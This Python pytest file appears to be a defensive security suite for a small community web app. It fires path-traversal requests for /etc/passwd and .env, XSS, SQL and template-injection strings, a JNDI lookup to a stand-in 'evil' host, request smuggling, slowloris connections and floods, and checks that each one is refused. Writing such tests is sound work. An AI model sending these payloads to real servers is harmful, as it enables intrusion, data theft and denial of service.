"""The pages: addresses that were guessed, searches that are none, headers that lie, and floods."""

from __future__ import annotations

import asyncio
import io

import pytest

from tests.hostile.case import Case
from tests.hostile.raw_request import raw

pytestmark = pytest.mark.asyncio(loop_scope="package")
GUARDS = ("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy")

PATHS: dict[str, str] = {
    "parent": "/../../etc/passwd",
    "parent-encoded": "/%2e%2e/%2e%2e/etc/passwd",
    "static-parent": "/static/../server.py",
    "static-parent-encoded": "/static/%2e%2e%2f%2e%2e%2fserver.py",
    "static-parent-twice-encoded": "/static/%252e%252e%252fserver.py",
    "static-absolute": "/static//etc/passwd",
    "static-backslash": "/static/..%5c..%5cserver.py",
    "static-null": "/static/page.css%00.png",
    "item-a-word": "/items/one",
    "item-negative": "/items/-1",
    "item-of-3000-digits": "/items/" + "9" * 3000,
    "item-other-digits": "/items/%D9%A1",
    "item-sql": "/items/1%20OR%201=1",
    "photo-of-nothing": "/items/99999/photo.jpg",
    "scan-of-letters": "/scan/abc",
    "enter-short": "/enter/x",
    "enter-sql": "/enter/'%20OR%20'1'='1",
    "enter-long": "/enter/" + "A" * 6000,
    "calendar-guessed": "/calendar/" + "0" * 40 + ".ics",
    "calendar-empty": "/calendar/.ics",
    "calendar-wildcard": "/calendar/%25.ics",
    "label-guessed": "/label/" + "f" * 40 + ".pdf",
    "insights-guessed": "/insights/" + "a" * 40,
    "insights-long": "/insights/" + "a" * 5000,
    "git": "/.git/config",
    "environment": "/.env",
    "database": "/data/commonshed.db",
    "backups": "/backups/shed.db",
    "metrics": "/metrics",
    "the-webhook": "/telegram",
}


@pytest.mark.parametrize("path", PATHS.values(), ids=PATHS)
async def test_an_address_that_leads_nowhere(case: Case, path: str) -> None:
    """Not found, or no longer valid, with all the headers; the page does not repeat the address."""
    page = await case.browser().asks(path)

    assert page.status in (400, 403, 404, 410), page.status
    assert all(it in page.headers for it in GUARDS)
    assert "root:" not in page.text
    assert "OR 1=1" not in page.words


QUERIES: dict[str, str] = {
    "script": "/?words=%3Cscript%3Ealert(1)%3C/script%3E",
    "attribute": "/?words=%22%20onfocus=alert(1)%20autofocus=%22",
    "jinja": "/?words=%7B%7B1337*1337%7D%7D",
    "null": "/?words=%00",
    "not-utf-8": "/?words=%ff%fe",
    "10000-letters": "/?words=" + "x" * 6000,
    "a-hundred-words": "/shelf.json?" + "&".join(f"words={it}" for it in range(100)),
    "numbers-that-are-none": "/?page=-1&within=NaN&cell=1e9.1e9",
    "huge-page": "/?page=" + "9" * 300,
    "cell-beyond": "/?cell=99999999999999999999.99999999999999999999",
    "days-that-are-none": "/?first=0000-00-00&last=9999-99-99",
    "days-of-a-million-years": "/?first=1000000-01-01",
    "kind-sql": "/?kind=thing'%20OR%201=1--",
    "language-path": "/?lang=../../en",
    "like-wildcards": "/?words=%25%25_%25",
    "regular-expression": "/?words=(a%2B)%2B$",
}


@pytest.mark.parametrize("path", QUERIES.values(), ids=QUERIES)
@pytest.mark.parametrize("signed_in", [False, True], ids=["stranger", "neighbour"])
async def test_a_search_that_is_none(case: Case, path: str, signed_in: bool) -> None:
    """An ordinary shelf, or a refusal; what was typed is text."""
    browser = await case.enters(case.ground.comes("Ben")) if signed_in else case.browser()
    page = await browser.asks(path)

    assert page.status in (200, 400, 414)
    assert "<script>alert" not in page.text
    assert '" onfocus=' not in page.text
    assert "1787569" not in page.text  # 1337*1337


async def test_an_item_of_elsewhere_looks_like_none(case: Case) -> None:
    """Byte for byte but for its number: neither a stranger nor a neighbour of Oak Lane learns that it is there."""
    ground = case.ground
    item, nothing = ground.secret_item, 77_777_777
    for browser in (case.browser(), await case.enters(ground.comes("Zoe", community=ground.oak))):
        for rest in ("", "/photo.jpg"):
            real = await browser.asks(f"/items/{item}{rest}")
            none = await browser.asks(f"/items/{nothing}{rest}")
            assert (real.status, real.text.replace(f"/items/{item}", "")) == (
                404, none.text.replace(f"/items/{nothing}", "")
            )  # fmt: skip


HEADERS: dict[str, dict[str, str]] = {
    "host": {"Host": "evil.example.org"},
    "forwarded-host": {"X-Forwarded-Host": "evil.example.org", "X-Forwarded-Proto": "http"},
    "method-override": {"X-HTTP-Method-Override": "DELETE"},
    "rewrite": {"X-Original-URL": "/insights/x", "X-Rewrite-URL": "/insights/x"},
    "languages": {"Accept-Language": "en;q=" + "9" * 3000 + ",*" * 1000},
    "forwarded-for": {"X-Forwarded-For": "1.2.3.4, " * 500 + "x"},
    "range": {"Range": "bytes=0-18446744073709551615"},
    "if-none-match": {"If-None-Match": '"' + "a" * 4000},
    "agent": {"User-Agent": "${jndi:ldap://evil}<script>"},
}


@pytest.mark.parametrize("headers", HEADERS.values(), ids=HEADERS)
async def test_headers_that_lie(case: Case, headers: dict[str, str]) -> None:
    """The page is the same as ever; no link in it leads elsewhere."""
    page = await case.browser().asks("/", headers=headers)

    assert page.status in (200, 400)
    assert "evil" not in page.text
    assert "evil" not in str(page.headers)


BROKEN: dict[str, str] = {
    "no-host": "GET / HTTP/1.1\r\n\r\n",
    "http-0.9": "GET /\r\n\r\n",
    "absolute": "GET http://127.0.0.1:1/ HTTP/1.1\r\nHost: x\r\n\r\n",
    "connect": "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n",
    "huge-header": "GET / HTTP/1.1\r\nHost: x\r\nX: " + "a" * 100_000 + "\r\n\r\n",
    "long-line": "GET /" + "a" * 100_000 + " HTTP/1.1\r\nHost: x\r\n\r\n",
    "many-headers": "GET / HTTP/1.1\r\nHost: x\r\n" + "X: 1\r\n" * 5_000 + "\r\n",
    "upgrade": "GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    "smuggled": "POST /leave HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
}


@pytest.mark.parametrize("request_", BROKEN.values(), ids=BROKEN)
async def test_broken_requests_of_pages(case: Case, request_: str) -> None:
    """Answered or refused, never more."""
    status = await raw(case.ground.given.listen.port, request_, 2.0)

    assert status in (0, 200, 400, 403, 404, 405, 413, 414, 431)


async def test_a_form_of_five_megabytes(case: Case) -> None:
    """Too large is said, and nothing of it is kept."""
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    page = await case.browser().asks("/enter/x", "POST", form, data=io.BytesIO(b"token=" + b"a" * 5_000_000))

    assert page.status == 413


async def test_a_hundred_pages_that_are_begun_and_never_asked_for(case: Case) -> None:
    """Slow connections hold up neither the pages nor the chats."""
    port = case.ground.given.listen.port
    slow = [await asyncio.open_connection("127.0.0.1", port) for _ in range(100)]
    for _, writer in slow:
        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-A: ")

    took = await case.aftermath.innocent_are_answered()
    page = await case.browser().asks("/")

    assert page.status == 200
    assert took < case.aftermath.patience.seconds
    for _, writer in slow:
        writer.close()


async def test_a_flood_of_pages(case: Case) -> None:
    """After some it is enough for one address, and others see the shelf as ever."""
    browser = case.browser()
    statuses = [(await browser.asks("/nowhere")).status for _ in range(90)]

    assert 429 in statuses
    assert (await case.browser().asks("/")).status == 200


async def test_guessing_ways_in(case: Case) -> None:
    """Ten tries, then one in six seconds: 140 bits are not found so."""
    browser = case.browser()
    statuses = [(await browser.asks(f"/enter/{number:028d}")).status for number in range(20)]

    assert statuses.count(429) >= 8
    assert 200 not in statuses


async def test_addresses_that_somebody_only_claims_to_have(case: Case) -> None:
    """What stands before the last address of X-Forwarded-For was written by a stranger: it makes no new allowance."""
    browser = case.browser()
    own = browser.headers["X-Forwarded-For"]
    statuses = [
        (await browser.asks("/nowhere", headers={"X-Forwarded-For": f"9.9.{it}.9, {own}"})).status
        for it in range(90)
    ]

    assert 429 in statuses
